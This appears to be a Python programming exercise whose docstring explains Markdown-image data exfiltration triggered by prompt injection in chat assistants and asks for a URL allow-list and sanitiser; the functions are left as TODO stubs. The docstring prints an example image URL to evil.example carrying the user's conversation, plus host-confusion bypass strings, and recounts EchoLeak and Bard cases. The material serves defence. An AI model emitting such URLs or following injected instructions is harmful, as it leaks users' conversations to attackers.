r"""Render a model's Markdown without letting it phone home.

The scenario
------------

Your chat UI renders the assistant's replies as Markdown. A prompt injection hidden in
a web page, an email or a document the assistant reads can make it write

    ![loading](https://evil.example/pixel.png?q=<the user's conversation, encoded>)

The user's client fetches every image in the reply automatically, so the data leaves
with zero clicks: the attacker just reads their server's log. MITRE ATLAS calls this
AML.T0077 LLM Response Rendering; EchoLeak (CVE-2025-32711) used reference-style
Markdown to get such a URL past Microsoft 365 Copilot's link filtering. Links leak the
same way when clicked, and `javascript:` links run code in a web UI.

What to implement
-----------------

    is_allowed_url(url: str, allowed_hosts: set[str]) -> bool
    render_safe_markdown(md: str, allowed_hosts: set[str]) -> str

`is_allowed_url(url, allowed_hosts)` is True only when ALL of these hold (it never
raises; anything that is not a str gives False):

1. `url` contains no backslash, no whitespace and no control character anywhere.
   Browsers read `https://evil.example\@img.example.com/` as host evil.example
   (a backslash is a slash to them), while `urllib.parse` says img.example.com.
2. `urllib.parse.urlsplit(url)` parses it (it raises ValueError for some malformed
   URLs, e.g. `https://[img.example.com/`: that is a False, not a crash).
3. The scheme is `http` or `https`. `urlsplit` lower-cases the scheme for you, so
   `JaVaScRiPt:` is just `javascript`; `data:`, `file:`, relative and
   protocol-relative (`//host/x`) URLs are all False.
4. The host, `urlsplit(url).hostname` (lower-cased, without user name, password and
   port), is EXACTLY one of `allowed_hosts`, compared in lower case. No substring, no
   suffix match, no subdomains: `img.example.com.evil.example`,
   `evil.example?img.example.com`, `https://img.example.com@evil.example/` (the host is
   after the @) and `cdn.img.example.com` are all False. So are look-alike hosts in
   other scripts (`іmg.example.com` starts with a Cyrillic і) and punycode names.

`render_safe_markdown(md, allowed_hosts)` returns `md` with every construct below whose
URL fails `is_allowed_url` neutralised, and everything else left EXACTLY as it was.
The regexes are written for you; `link_destination(inside)` gets the URL out of the
parentheses of an inline link.

1. `REF_DEF_RE`, reference definitions on their own line, `[label]: URL "title"`:
   blocked -> replace the match by its `lead` group (indentation, `>`, list marker).
   Without its definition, `![logo][label]` is plain text to every renderer.
2. `INLINE_RE`, inline images `![ALT](URL "title")` and links `[TEXT](URL)`:
   blocked image -> `[image: ALT]` (`[image]` when ALT is empty or blank);
   blocked link -> its TEXT.
3. `LINK_TAIL_RE`, any `](URL)` left over (link text with brackets inside, such as
   `![a [b] c](URL)`): blocked -> `]`, which drops the parenthesised part.
4. `AUTOLINK_RE`, autolinks `<https://...>`, `<javascript:...>`: blocked ->
   `[link removed]`.
5. `HTML_TAG_RE`, raw HTML tags: ALWAYS removed, whatever their URLs, because model
   output never needs raw HTML. An opening `<img ...>` tag becomes `[image]`; every
   other tag (`<a href=...>`, `</a>`, `<iframe ...>`) becomes the empty string.
6. Do 1-5 in this order, then REPEAT the whole pass until the text stops changing.
   Your own replacement can create a new construct: `![x](URL1)(URL2)` becomes
   `[image: x](URL2)` after one pass, a brand-new link. Sanitisers that run once have
   been bypassed this way for as long as there have been sanitisers.

Not handled, and why that is acceptable here: bare URLs in text (a renderer may make
them clickable, but nothing is fetched without a click), and exotic Markdown such as
link text with nested brackets two levels deep (rule 3 still drops its URL). The text
in code spans is treated like any other text. The real defence is at the renderer:
see "Why it matters".

Examples
--------

>>> hosts = {"img.example.com"}
>>> render_safe_markdown("Chart: ![sales](https://img.example.com/q1.png)", hosts)
'Chart: ![sales](https://img.example.com/q1.png)'
>>> render_safe_markdown("![x](https://evil.example/p.png?q=SECRET) [docs](https://evil.example)",
...                      hosts)
'[image: x] docs'
>>> render_safe_markdown("![logo][1]\n\n[1]: https://evil.example/l.png?q=SECRET", hosts)
'![logo][1]\n\n'
>>> render_safe_markdown('<img src="https://img.example.com/a.png"> <https://evil.example/>',
...                      hosts)
'[image] [link removed]'
>>> is_allowed_url("HTTPS://IMG.EXAMPLE.COM/a.png", hosts)
True
>>> is_allowed_url("https://img.example.com@evil.example/a.png", hosts)
False

Why it matters
--------------

OWASP LLM05:2025 Improper Output Handling: model output rendered without encoding or
filtering leads to XSS and data exfiltration. Filter on the way out, as here, AND at
the renderer: a Content-Security-Policy whose `img-src` lists only your own hosts
makes the browser refuse to fetch anything else, and a renderer configured without
raw HTML and without images from other hosts does not depend on regexes at all. Keep
the allow-list short: in 2023 Google Bard's CSP allowed Google-owned domains, and a
Google Apps Script URL on one of them received the exfiltrated conversation; EchoLeak
went through an allowed Microsoft Teams URL.
"""

from __future__ import annotations

import re
import unicodedata  # noqa: F401 - you will need it: category(ch) == "Cc" for control chars
from urllib.parse import urlsplit  # noqa: F401 - you will need it

# Ready to use. Each regex is applied with .sub() and a function that gets the match.

# [label]: URL "optional title", alone on its line, maybe after indentation, `>` quote
# markers and one list marker. Groups: lead, label, dest (with <> if it had them).
REF_DEF_RE = re.compile(
    r"^(?P<lead>[ \t]*(?:>[ \t]*)*(?:(?:[-+*]|\d{1,9}[.)])[ \t]+)?)"
    r"\[(?P<label>[^\[\]]+)\]:[ \t]*\n?[ \t>]*"
    r"(?P<dest><[^<>\n]*>|\S+)"
    r"(?:[ \t]+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?[ \t]*$",
    re.MULTILINE,
)

# ![ALT](inside) or [TEXT](inside). Groups: bang ("!" for an image), text, inside (what
# is between the parentheses; one level of nested parentheses allowed).
INLINE_RE = re.compile(
    r"(?P<bang>!?)\[(?P<text>[^\[\]]*)\]\((?P<inside>[^()]*(?:\([^()]*\)[^()]*)*)\)"
)

# Any ](inside) at all. Group: inside.
LINK_TAIL_RE = re.compile(r"\]\((?P<inside>[^()]*(?:\([^()]*\)[^()]*)*)\)")

# <scheme:...> autolinks. Group: url.
AUTOLINK_RE = re.compile(r"<(?P<url>[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*)>")

# An HTML tag: <name ...>, </name>, <name/...>; it ends at the next > (or where the
# next tag starts). Groups: close ("/" for a closing tag), name.
HTML_TAG_RE = re.compile(r"<(?P<close>/?)(?P<name>[A-Za-z][A-Za-z0-9-]*)(?=[\s/>]|$)[^<>]*>?")


def link_destination(inside: str) -> str:
    """The URL part of what is between an inline link's parentheses (ready to use).

    >>> link_destination('https://img.example.com/a.png "A title"')
    'https://img.example.com/a.png'
    >>> link_destination("<https://evil.example/a b>")
    'https://evil.example/a b'
    """
    inside = inside.strip()
    if inside.startswith("<"):
        end = inside.find(">")
        return inside[1:end] if end != -1 else inside[1:]
    return inside.split(maxsplit=1)[0] if inside else ""


def is_allowed_url(url: str, allowed_hosts: set[str]) -> bool:
    """True if `url` is http(s) on exactly one of `allowed_hosts`; never raises."""
    # TODO: the four rules in the module docstring, in order.
    raise NotImplementedError("TODO: implement is_allowed_url(url, allowed_hosts)")


def render_safe_markdown(md: str, allowed_hosts: set[str]) -> str:
    """Neutralise images, links and HTML whose URL is not on an allowed host."""
    # TODO 1: one replacement function per regex (see the module docstring), each
    #         keeping the match (match.group(0)) when its URL is allowed.
    # TODO 2: apply REF_DEF_RE, INLINE_RE, LINK_TAIL_RE, AUTOLINK_RE and HTML_TAG_RE with
    #         .sub(), in that order, and repeat until the text no longer changes.
    raise NotImplementedError("TODO: implement render_safe_markdown(md, allowed_hosts)")
